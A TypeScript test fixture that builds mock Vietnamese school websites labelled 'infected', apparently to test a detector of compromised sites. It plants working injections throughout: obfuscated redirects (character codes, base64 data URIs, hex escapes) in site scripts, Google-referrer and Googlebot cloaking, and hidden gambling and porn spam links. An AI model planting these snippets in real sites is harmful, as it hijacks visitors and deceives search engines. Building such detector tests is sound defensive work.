import {
  atEnd,
  type CorpusSite,
  insertBefore,
  isFromGoogle,
  isGooglebot,
  isPhone,
  serve,
  site,
} from '../corpus-site.ts';
import { article, page, schoolPages } from '../school-pages.ts';

const javascript = (body: string) => ({ headers: { 'content-type': 'application/javascript' }, body });
const css = (body: string) => ({ headers: { 'content-type': 'text/css' }, body });
const deep = (school: string, path: string, html: string) => ({
  ...schoolPages('wordpress', school),
  '/tin-tuc/le-khai-giang-nam-hoc-moi': page('wordpress', {
    school,
    title: 'Lễ khai giảng',
    main: '<p>Xem thêm <a href="/chuyen-muc">chuyên mục</a></p>',
  }),
  '/chuyen-muc': page('wordpress', {
    school,
    title: 'Chuyên mục',
    main: '<a href="/chuyen-muc/trang-2">Trang 2</a>',
  }),
  '/chuyen-muc/trang-2': page('wordpress', {
    school,
    title: 'Trang 2',
    main: `<a href="${path}">Bài cũ</a>`,
  }),
  [path]: html,
});

/** Planted content in places where a quick look does not reach. */
export const sites: readonly CorpusSite[] = [
  {
    id: 'own-script-redirects-phones',
    label: 'infected',
    about: 'a script file of the site itself sends phones to a betting site',
    respond: serve({
      ...schoolPages('wordpress', 'Trường THPT Núi Đèo Mới'),
      '/wp-includes/js/jquery/jquery.min.js': javascript(
        '/*! jQuery v3.7.1 */!function(e,t){"use strict"}(window);;if(/Android|iPhone/i.test(navigator.userAgent)){window.location="https://qh88.supply/m"}',
      ),
    }),
  },
  {
    id: 'own-script-loads-foreign',
    label: 'infected',
    about: 'a theme script adds a script from an unknown host by character codes',
    respond: serve({
      ...schoolPages('wordpress', 'Trường THCS Núi Voi Mới'),
      '/wp-content/themes/flatsome/assets/js/flatsome.js': javascript(
        `(function(){var s=document.createElement("script");s.src=String.fromCharCode(${[...Buffer.from('https://cdn.jquery-stat.top/t.js')].join(',')});document.getElementsByTagName("head")[0].appendChild(s)})();`,
      ),
    }),
  },
  {
    id: 'own-script-writes-links',
    label: 'infected',
    about: 'a script file of the site writes hidden links',
    respond: serve({
      ...schoolPages('nukeviet', 'Trường THPT Kênh Dương Mới'),
      '/assets/js/jquery/jquery.min.js': javascript(
        'document.write("<div style=\\"display:none\\"><a href=\\"https://ok365.glass\\">ok365</a><a href=\\"https://vz99.ink\\">vz99 nhà cái</a></div>");',
      ),
    }),
  },
  {
    id: 'hidden-by-style-sheet',
    label: 'infected',
    about: 'neutral anchor words to unknown hosts in a box that the style sheet file hides',
    respond: serve({
      ...schoolPages('wordpress', 'Trường THPT Trại Cau Mới', [], (html) =>
        atEnd(
          html,
          '<div class="ft-ext-2">Tài trợ: <a href="https://lucky-lo.top">nhận quà</a> <a href="https://c54.repair">c54</a> <a href="https://thabet.deals">thabet link</a></div>',
        ),
      ),
      '/wp-content/themes/flatsome/style.css': css('.ft-ext-2{position:absolute;left:-3000px}'),
    }),
  },
  site(
    'infected',
    'three-clicks-deep',
    'a doorway article three clicks away from the home page',
    deep(
      'Trường THPT Lưu Kiếm Mới',
      '/bai-cu/2019',
      page('wordpress', {
        school: 'Trường THPT Lưu Kiếm Mới',
        title: 'Cách chơi xì dách luôn thắng',
        main: article({
          title: 'Cách chơi xì dách, poker online luôn thắng tại VIN777',
          paragraphs: [
            'Tham gia VIN777 để trải nghiệm sòng bài trực tuyến. Đăng ký tài khoản, nạp tiền lần đầu tặng 100%.',
            'Link tải app VIN777 mới nhất <a href="https://vin777.zone">tại đây</a>.',
          ],
        }),
      }),
    ),
  ),
  {
    id: 'phone-and-google',
    label: 'infected',
    about: 'only phones that come from Google are sent away',
    respond: (() => {
      const pages = schoolPages('nukeviet', 'Trường THPT Kha Lâm Mới');
      return serve({
        ...pages,
        '/': (request) =>
          isPhone(request) && isFromGoogle(request) && !isGooglebot(request)
            ? { status: 302, headers: { location: 'https://bongvip.express/lp' } }
            : { body: pages['/'] },
      });
    })(),
  },
  {
    id: 'article-redirect-from-google',
    label: 'infected',
    about: 'only an article redirects visitors from Google; the home page does not',
    respond: (() => {
      const pages = schoolPages('joomla', 'Trường THCS Kênh Giang Mới');
      return serve({
        ...pages,
        '/tin-tuc/ket-qua-thi-hoc-sinh-gioi': (request) =>
          isFromGoogle(request)
            ? { status: 301, headers: { location: 'https://lu88.build/' } }
            : { body: pages['/tin-tuc/ket-qua-thi-hoc-sinh-gioi'] ?? '' },
      });
    })(),
  },
  {
    id: 'article-body-for-bot',
    label: 'infected',
    about: 'one article holds a paragraph of spam for Googlebot only',
    respond: (() => {
      const pages = schoolPages('dotnetnuke', 'Trường THPT Cửa Cấm Mới');
      const clean = pages['/tin-tuc/hoi-khoe-phu-dong'] ?? '';
      return serve({
        ...pages,
        '/tin-tuc/hoi-khoe-phu-dong': (request) => ({
          body: isGooglebot(request)
            ? atEnd(
                clean,
                '<p>Nhà cái XOSO66, trang cá cược bóng đá, lô đề online tỷ lệ 1 ăn 99</p><a href="https://xoso66.works">XOSO66</a>',
              )
            : clean,
        }),
      });
    })(),
  },
  site(
    'infected',
    'pictures-only',
    'a floating banner whose pictures have no words, links by a shortener and by brand host',
    schoolPages('shared-portal', 'Trường Tiểu học Kim Đồng Mới', [], (html) =>
      insertBefore(
        html,
        '<div class="chan-trang">',
        '<div style="position:fixed;bottom:0;left:0"><a href="https://kubet88.cards/?a=1" target="_blank" rel="nofollow"><img src="/upload/b1.gif"></a><a href="https://bit.ly/3abcXYZ"><img src="/upload/b2.gif"></a></div>',
      ),
    ),
  ),
  site(
    'infected',
    'data-address-script',
    'a script in a data address decodes another one',
    schoolPages('joomla', 'Trường THPT Gò Công Mới', [], (html) =>
      atEnd(
        html,
        `<script src="data:text/javascript;base64,${Buffer.from('top.location="https://dagatructiep.farm"').toString('base64')}"></script>`,
      ),
    ),
  ),
  site(
    'infected',
    'hex-escaped-redirect',
    'a redirect whose address is written with hexadecimal escapes',
    schoolPages('wordpress', 'Trường THPT Bến Bính Mới', [], (html) =>
      atEnd(
        html,
        `<script>var _0x1a=["${[...Buffer.from('https://nhacaiso.rocks/go')].map((byte) => `\\x${byte.toString(16)}`).join('')}","\\x6c\\x6f\\x63\\x61\\x74\\x69\\x6f\\x6e"];if(document.referrer.indexOf("google")>-1){window[_0x1a[1]]=_0x1a[0]}</script>`,
      ),
    ),
  ),
  site(
    'infected',
    'spam-after-end',
    'links after the end of the document',
    schoolPages(
      'hand-made',
      'Trường THCS Sông Lấp Mới',
      [],
      (html) =>
        `${html}\n\n<a href="https://88vv.codes">88VV</a> <a href="https://fun88hn.com">fun88</a> <a href="https://game-bai-ip.club">game bài iP club</a>`,
    ),
  ),
  site(
    'infected',
    'marquee-hidden',
    'links in a marquee of zero height',
    schoolPages('hand-made', 'Trường Mầm non Sóng Biển Mới', [], (html) =>
      atEnd(
        html,
        '<marquee scrollamount="10000" width="5" height="1"><a href="https://daily-vlxx.blog">vlxx</a> <a href="https://sextop1.red">sextop1</a> <a href="https://loto188.ws">loto188</a></marquee>',
      ),
    ),
  ),
];
